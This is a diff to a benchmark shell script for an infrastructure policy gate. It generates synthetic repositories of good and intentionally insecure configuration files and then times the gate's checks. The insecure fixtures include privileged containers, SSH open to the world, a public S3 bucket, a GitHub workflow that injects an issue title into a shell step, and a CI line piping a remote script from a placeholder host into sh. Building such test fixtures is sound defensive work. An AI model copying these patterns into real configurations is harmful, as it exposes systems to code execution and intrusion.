@@ -85,6 +85,77 @@ echo "| repository | Dockerfiles in the pushed commit | infragate pre-receive, e
 echo "|---:|---:|---:|"
 printf '%s\n' "${hooks[@]}"
 
+# Every kind the gate recognises (issue 11): 1,000 infrastructure files of eight kinds among plain files,
+# NetworkPolicies in their own folder (the Kubernetes rules read the tree for them). Branches change one
+# file of each of five kinds, 50 and all 1,000 files; "k8s10" is 10 commits changing one Deployment each.
+generate_mixed() {
+  local files=$1
+  awk -v files="$files" '
+  function infra(i, bad,    d, k, body, path) {
+    d = "svc/g" int(i / 100) "/s" i; k = i % 8
+    if (k == 0) { path = d "/Dockerfile"; body = bad ? "FROM ubuntu:latest\nUSER root\n" : "FROM alpine:3.20\nUSER 10001\nHEALTHCHECK CMD true\n" }
+    if (k == 1) { path = d "/deploy.yaml"; body = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: w" i ", namespace: ns" (i % 10) "}\nspec:\n  template:\n    spec:\n      containers:\n      - name: app\n        image: registry.example.com/app:" (bad ? "latest" : "1." i) "\n        securityContext: {privileged: " (bad == 1 ? "true" : "false") ", runAsNonRoot: true, allowPrivilegeEscalation: false, readOnlyRootFilesystem: true}\n" }
+    if (k == 2) { path = d "/docker-compose.yml"; body = "services:\n  app:\n    image: registry.example.com/app:1." i "\n    privileged: " (bad ? "true" : "false") "\n" }
+    if (k == 3) { path = d "/main.tf"; body = "resource \"aws_security_group\" \"s" i "\" {\n  ingress {\n    from_port = 22\n    to_port = 22\n    protocol = \"tcp\"\n    cidr_blocks = [\"" (bad ? "0.0.0.0/0" : "10.0.0.0/8") "\"]\n  }\n}\n" }
+    if (k == 4) { path = ".github/workflows/w" i ".yml"; body = "on: " (bad ? "issues" : "push") "\npermissions: {contents: read}\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"" (bad ? "${{ github.event.issue.title }}" : "v" i) "\"\n" }
+    if (k == 5) { path = d "/template.yaml"; body = "AWSTemplateFormatVersion: \"2010-09-09\"\nResources:\n  B" i ":\n    Type: AWS::S3::Bucket\n    Properties:\n      AccessControl: " (bad ? "PublicRead" : "Private") "\n" }
+    if (k == 6) { path = d "/values.yaml"; body = "image:\n  tag: \"" (bad ? "latest" : "1." i) "\"\nsecurityContext:\n  privileged: " (bad ? "true" : "false") "\n" }
+    if (k == 7) { path = d "/build.gitlab-ci.yml"; body = "build" i ":\n  image: alpine:3.20\n  script:\n    - " (bad ? "curl -fsSL https://x.invalid/i.sh | sh" : "make") "\n" }
+    printf "M 100644 inline %s\ndata %d\n%s\n", path, length(body), body
+    if (k == 6 && !bad) { body = "apiVersion: v2\nname: c" i "\nversion: 1.0.0\n"; printf "M 100644 inline %s/Chart.yaml\ndata %d\n%s\n", d, length(body), body }
+  }
+  BEGIN {
+    plain = files - 1000; if (plain < 0) plain = 0
+    print "commit refs/heads/main"; print "mark :1"
+    print "committer bench <bench@infragate.invalid> 1700000000 +0000"; print "data 4"; print "base"
+    for (i = 0; i < plain; i++) {
+      body = "plain file " i "\n"
+      printf "M 100644 inline src/d%d/e%d/f%d.txt\ndata %d\n%s\n", int(i / 1000), int(i / 50) % 20, i, length(body), body
+    }
+    for (n = 0; n < 10; n++) {
+      body = "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: deny, namespace: ns" n "}\nspec: {podSelector: {}}\n"
+      printf "M 100644 inline platform/policies/ns%d.yaml\ndata %d\n%s\n", n, length(body), body
+    }
+    for (i = 0; i < 1000; i++) infra(i, 0)
+    split("mixed5 mixed50 mixed1000", names, " ")
+    for (b = 1; b <= 3; b++) {
+      printf "commit refs/heads/%s\ncommitter bench <bench@infragate.invalid> 1700000100 +0000\ndata 6\nchange\nfrom :1\n", names[b]
+      if (b == 1) { for (k = 0; k < 5; k++) infra(k, 1) }
+      if (b == 2) { for (i = 0; i < 50; i++) infra(i, 1) }
+      if (b == 3) { for (i = 0; i < 1000; i++) infra(i, 1) }
+    }
+    for (c = 0; c < 10; c++) {
+      printf "commit refs/heads/k8s10\ncommitter bench <bench@infragate.invalid> %d +0000\ndata 6\nchange\n%s", 1700000200 + c, c == 0 ? "from :1\n" : ""
+      infra(c * 8 + 1, 2)
+    }
+  }'
+}
+
+echo
+echo "| repository (mixed kinds) | changed files | check, cold store (ms) | check, warm store (ms) | git floor (ms) |"
+echo "|---:|---:|---:|---:|---:|"
+k8s_hooks=()
+for files in 1000 100000; do
+  repo="$work/mixed-$files"
+  git init -q --bare "$repo"
+  generate_mixed "$files" | git -C "$repo" fast-import --quiet
+  for branch in mixed5 mixed50 mixed1000; do
+    cold=$(median_ms sh -c "rm -rf '$repo/infragate'; '$bin' check --repo '$repo' --base main --head $branch --format json")
+    warm=$(median_ms "$bin" check --repo "$repo" --base main --head "$branch" --format json)
+    echo "| $files files | ${branch#mixed} | $cold | $warm | $(median_ms floor "$repo" main "$branch") |"
+  done
+  main=$(git -C "$repo" rev-parse main)
+  tip=$(git -C "$repo" rev-parse k8s10)
+  git -C "$repo" update-ref -d refs/heads/k8s10
+  k8s_push() { printf '%s %s refs/heads/main\n' "$main" "$tip" | "$bin" pre-receive --repo "$repo" --policy "$work/mixed-policy.yml"; }
+  printf 'version: 1\nscan: each-commit\nprotected:\n  refs: ["main"]\n' >"$work/mixed-policy.yml"
+  k8s_hooks+=("| $files files | $(median_ms k8s_push) |")
+done
+echo
+echo "| repository (mixed kinds) | pre-receive: 10 commits, one Deployment each (ms) |"
+echo "|---:|---:|"
+printf '%s\n' "${k8s_hooks[@]}"
+
 # Fast-forwarding main over 500 commits pushed to a feature branch earlier (issue 9): every commit is
 # judged under main's policy, cold (no verdict cache) and with the cache the feature push filled.
 history() {
